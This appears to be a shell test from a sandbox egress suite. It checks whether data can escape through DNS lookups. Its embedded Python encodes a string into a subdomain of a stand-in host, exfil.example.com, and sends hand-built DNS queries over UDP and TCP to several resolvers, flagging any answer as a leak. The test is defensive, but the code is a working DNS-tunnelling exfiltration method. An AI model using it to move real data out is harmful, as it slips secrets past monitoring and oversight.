# tries: data carried out in names that are looked up: by the system, to a resolver of its choice, over UDP and TCP
# must: tests_failed
[ -n "$PY" ] || skip 'there is no Python to ask with'
tried 'names with data in them'
timeout 30 "$PY" - <<'END'
import socket, struct
data = "c29sdXRpb24"
for name in (f"{data}.exfil.example.com", "www.example.org"):
    try:
        found = {i[4][0] for i in socket.getaddrinfo(name, 80)}
        if found - {"127.0.0.1", "::1"}: print(f"probe:leak {name} has an address: {found}")
    except OSError: pass
question = b"".join(bytes([len(p)]) + p.encode() for p in f"{data}.exfil.example.com".split(".")) + b"\0"
packet = struct.pack(">6H", 0x1234, 0x0100, 1, 0, 0, 0) + question + struct.pack(">2H", 16, 1)
for server in ("203.0.113.53", "198.51.100.53", "127.0.0.11", "127.0.0.53"):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            with socket.socket(socket.AF_INET, kind) as s:
                s.settimeout(2)
                s.connect((server, 53))
                s.send(packet if kind == socket.SOCK_DGRAM else struct.pack(">H", len(packet)) + packet)
                answer = s.recv(512)
                at = 0 if kind == socket.SOCK_DGRAM else 2
                count = struct.unpack(">H", answer[at + 6 : at + 8])[0] if len(answer) >= at + 8 else 0
                if count: print(f"probe:leak {server} answered a name with data in it")
        except OSError: pass
END
exit 0
